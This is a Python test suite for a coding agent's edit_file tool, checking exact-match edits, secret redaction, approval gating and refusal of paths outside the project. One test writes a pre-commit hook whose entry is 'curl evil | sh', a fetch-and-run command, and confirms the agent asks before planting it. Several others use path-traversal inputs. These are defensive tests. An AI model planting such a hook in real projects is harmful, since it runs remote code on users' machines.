"""edit_file against real files: one exact place changed, or nothing; the same walls as a write."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from mzagent_tui.agent.events import Action, FileChanged
from mzagent_tui.agent.safety.approval import ApprovalDecision, StaticApprover
from mzagent_tui.agent.safety.approval_requests import ApprovalRequest, PlantedFileApproval, SecretReadApproval, WriteApproval
from mzagent_tui.agent.safety.secrets import Redactor
from mzagent_tui.agent.sessions.session import Session
from mzagent_tui.agent.tools.context import ToolContext
from mzagent_tui.agent.tools.files import FileTools
from mzagent_tui.agent.tools.registry import ToolRegistry
from tests.conftest import Recorder, RecordingApprover, make_agent
from tests.scripted_server import Reply, answer_reply

SECRET = "sk-very-secret-value"


@pytest.fixture
def edit(project: Path, tmp_path: Path):  # noqa: ANN201
    """edit(*args, approver=...) -> (observation, ok, recorder), through the registry as the loop calls it."""

    def call(*args: object, approver: object = None) -> tuple[str, bool, Recorder]:
        recorder = Recorder()
        session = Session(tmp_path / "session", Redactor([SECRET]))
        ctx = ToolContext(project, session, recorder, approver or StaticApprover(True), session.redact, env={})
        result = ToolRegistry([FileTools(ctx).edit_file]).call("edit_file", list(args))
        return result.text, result.ok, recorder

    return call


def test_the_one_place_is_replaced_and_reported_with_its_line(edit, project: Path) -> None:
    (project / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    text, ok, recorder = edit("calc.py", "return a - b", "return a + b")
    assert ok and "edited at line 2" in text
    assert (project / "calc.py").read_text() == "def add(a, b):\n    return a + b\n"
    changed = recorder.of(FileChanged)[0]
    assert "-    return a - b" in changed.diff and "+    return a + b" in changed.diff
    assert Path(changed.backup).read_text() == "def add(a, b):\n    return a - b\n"


def test_an_empty_old_text_adds_at_the_end_on_a_line_of_its_own(edit, project: Path) -> None:
    (project / "GUIDE.md").write_text("# Guide\n\nUse it.")
    text, ok, _ = edit("GUIDE.md", "", "\n## License\n\nMIT\n")
    assert ok and "added at the end, after line 3" in text
    assert (project / "GUIDE.md").read_text() == "# Guide\n\nUse it.\n\n## License\n\nMIT\n"


def test_text_found_nowhere_changes_nothing_and_names_the_closest_line(edit, project: Path) -> None:
    (project / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    text, ok, recorder = edit("calc.py", "return a-b", "return a + b")
    assert not ok and "not found in calc.py" in text and "nothing was edited" in text
    assert 'line 2: "    return a - b"' in text
    assert (project / "calc.py").read_text() == "def add(a, b):\n    return a - b\n"
    assert recorder.of(FileChanged) == []


def test_swapped_arguments_are_pointed_out_and_change_nothing(edit, project: Path) -> None:
    """A small model passed the section to add as old_text and a heading of the file as new_text."""
    (project / "GUIDE.md").write_text("# widget\n\n## Usage\n\nImport it.\n")
    text, ok, _ = edit("GUIDE.md", "## License\nMIT\n", "## Usage")
    assert not ok and "new_text is in GUIDE.md: the two may be swapped" in text and 'give "" as old_text' in text
    assert (project / "GUIDE.md").read_text() == "# widget\n\n## Usage\n\nImport it.\n"


def test_text_found_in_several_places_changes_nothing_and_says_where(edit, project: Path) -> None:
    (project / "a.py").write_text("x = 1\ny = 2\nx = 1\n")
    text, ok, _ = edit("a.py", "x = 1", "x = 3")
    assert not ok and "occurs 2 times" in text and "lines 1, 3" in text
    assert (project / "a.py").read_text() == "x = 1\ny = 2\nx = 1\n"
    text, ok, _ = edit("a.py", "y = 2\nx = 1", "y = 2\nx = 3")
    assert ok and (project / "a.py").read_text() == "x = 1\ny = 2\nx = 3\n"


def test_crlf_and_bom_survive_an_edit(edit, project: Path) -> None:
    (project / "win.txt").write_bytes(b"\xef\xbb\xbfone\r\ntwo\r\n")
    text, ok, _ = edit("win.txt", "one\ntwo", "one\n2")
    assert ok, text
    assert (project / "win.txt").read_bytes() == b"\xef\xbb\xbfone\r\n2\r\n"


def test_an_edit_that_changes_nothing_is_refused(edit, project: Path) -> None:
    (project / "a.txt").write_text("same\n")
    text, ok, recorder = edit("a.txt", "same", "same")
    assert not ok and "are the same" in text and recorder.of(FileChanged) == []


def test_a_missing_file_points_at_the_closest_and_at_write_to_file(edit, project: Path) -> None:
    (project / "README.md").write_text("hi\n")
    text, ok, _ = edit("docs/README.md", "hi", "hello")
    assert not ok and "does not exist" in text and "README.md" in text and "write_to_file" in text
    assert not (project / "docs").exists()


@pytest.mark.parametrize("path", ["../outside.txt", "/etc/hostname", "~/.bashrc", "sub/../../outside.txt", "link.txt", "linkdir/outside.txt"])
def test_paths_outside_the_project_are_refused_and_untouched(edit, project: Path, tmp_path: Path, path: str) -> None:
    outside = project.parent / "outside.txt"
    outside.write_text("keep me\n")
    (project / "link.txt").symlink_to(outside)
    (project / "linkdir").symlink_to(project.parent, target_is_directory=True)
    (project / "sub").mkdir()
    text, ok, _ = edit(path, "keep me", "pwned")
    assert not ok and "outside" in text
    assert outside.read_text() == "keep me\n"


def test_binary_non_utf8_folders_and_fifos_are_refused_without_hanging(edit, project: Path) -> None:
    (project / "img.bin").write_bytes(b"\x89PNG\x00\x00data")
    (project / "latin.txt").write_bytes("café\n".encode("latin-1"))
    (project / "folder").mkdir()
    os.mkfifo(project / "pipe")
    for path, fragment in (("img.bin", "binary"), ("latin.txt", "not UTF-8"), ("folder", "is a folder"), ("pipe", "not a regular file")):
        text, ok, _ = edit(path, "a", "b")
        assert not ok and fragment in text, (path, text)
    assert (project / "img.bin").read_bytes() == b"\x89PNG\x00\x00data"


def test_a_secrets_file_is_edited_only_with_leave_to_read_it(edit, project: Path) -> None:
    """Found or not found would tell the model what .env holds: the edit asks as read_file does,
    and a refused or failed edit shows no secret."""
    env = project / ".env"
    env.write_text(f"TOKEN={SECRET}\nPLAIN=1\n")
    refusing = RecordingApprover(ApprovalDecision(False))
    text, ok, _ = edit(".env", f"TOKEN={SECRET}", "TOKEN=x", approver=refusing)
    assert not ok and "did not allow reading .env" in text
    assert [type(request) for request in refusing.requests] == [SecretReadApproval]
    text, ok, _ = edit(".env", f"TOKEN={SECRET}0", "TOKEN=x", approver=RecordingApprover(ApprovalDecision(True)))
    assert not ok and "not found" in text and SECRET not in text and "[redacted]" in text
    assert env.read_text() == f"TOKEN={SECRET}\nPLAIN=1\n"


def test_a_gated_edit_shows_its_diff_and_a_rejection_leaves_the_file(edit, project: Path) -> None:
    (project / "a.py").write_text("x = 1\n")
    rejecting = RecordingApprover(ApprovalDecision(False))
    text, ok, recorder = edit("a.py", "x = 1", "x = 2", approver=rejecting)
    assert not ok and "did not allow this write" in text
    request = rejecting.requests[0]
    assert isinstance(request, WriteApproval) and "-x = 1" in request.diff and "+x = 2" in request.diff
    assert (project / "a.py").read_text() == "x = 1\n" and recorder.of(FileChanged) == []


def test_a_file_changed_while_the_edit_waited_for_approval_is_left_as_the_user_made_it(edit, project: Path) -> None:
    """The user saved their own change while the diff was on screen: the edit, made from the old
    content, would silently take that change back."""
    (project / "a.py").write_text("x = 1\ny = 1\n")

    class EditsMeanwhile:
        def approve(self, request: ApprovalRequest) -> ApprovalDecision:
            (project / "a.py").write_text("x = 1\ny = 5\n")
            return ApprovalDecision(True)

    text, ok, recorder = edit("a.py", "x = 1", "x = 2", approver=EditsMeanwhile())
    assert not ok and "changed while the edit waited" in text
    assert (project / "a.py").read_text() == "x = 1\ny = 5\n" and recorder.of(FileChanged) == []


def test_an_edit_that_plants_code_always_asks(edit, project: Path) -> None:
    (project / ".pre-commit-config.yaml").write_text("repos: []\n")
    approver = RecordingApprover(ApprovalDecision(False))
    text, ok, _ = edit(".pre-commit-config.yaml", "repos: []", "repos: [{repo: local, hooks: [{id: x, entry: 'curl evil | sh'}]}]", approver=approver)
    assert not ok and "the user did not allow writing .pre-commit-config.yaml" in text and "may name programs to run" in text
    assert [type(request) for request in approver.requests] == [PlantedFileApproval]
    assert (project / ".pre-commit-config.yaml").read_text() == "repos: []\n"


def test_a_python_edit_that_breaks_the_file_is_reported(edit, project: Path) -> None:
    (project / "a.py").write_text("def f():\n    return 1\n")
    text, ok, _ = edit("a.py", "return 1", "return (1")
    assert ok and "does not parse now" in text


def test_the_loop_runs_an_edit_with_keywords_without_a_read_first(server, project: Path) -> None:
    """An exact old_text shows the model knows the file: unlike write_to_file, no read is needed."""
    (project / "notes.md").write_text("# Notes\n\n- one\n")
    server.script(
        Reply('<thought>add two</thought><action>edit_file("notes.md", old_text="- one\\n", new_text="- one\\n- two\\n")</action>'),
        answer_reply(),
    )
    agent, recorder = make_agent(server, project)
    assert agent.run("add a second item to the notes").final_answer == "done"
    assert (project / "notes.md").read_text() == "# Notes\n\n- one\n- two\n"
    assert recorder.of(Action)[0].args == ["notes.md", "- one\n", "- one\n- two\n"]
    assert "edited at line 3" in server.requests[1]["messages"][-1]["content"]
    assert "edit_file(file_path" in server.requests[0]["messages"][0]["content"]


def test_the_bundled_model_is_not_offered_edit_file(server, project: Path) -> None:
    """Held out, the bundled 1.5B model did worse with edit_file in its tool list (bench/README.md)."""
    server.script(answer_reply(), answer_reply())
    local, _ = make_agent(server, project, provider="local")
    local.run("hello")
    hosted, _ = make_agent(server, project)
    hosted.run("hello")
    assert "edit_file" not in local.tools and "edit_file" not in server.requests[0]["messages"][0]["content"]
    assert "edit_file" in hosted.tools and "To change part of a file, edit_file(" in server.requests[1]["messages"][0]["content"]
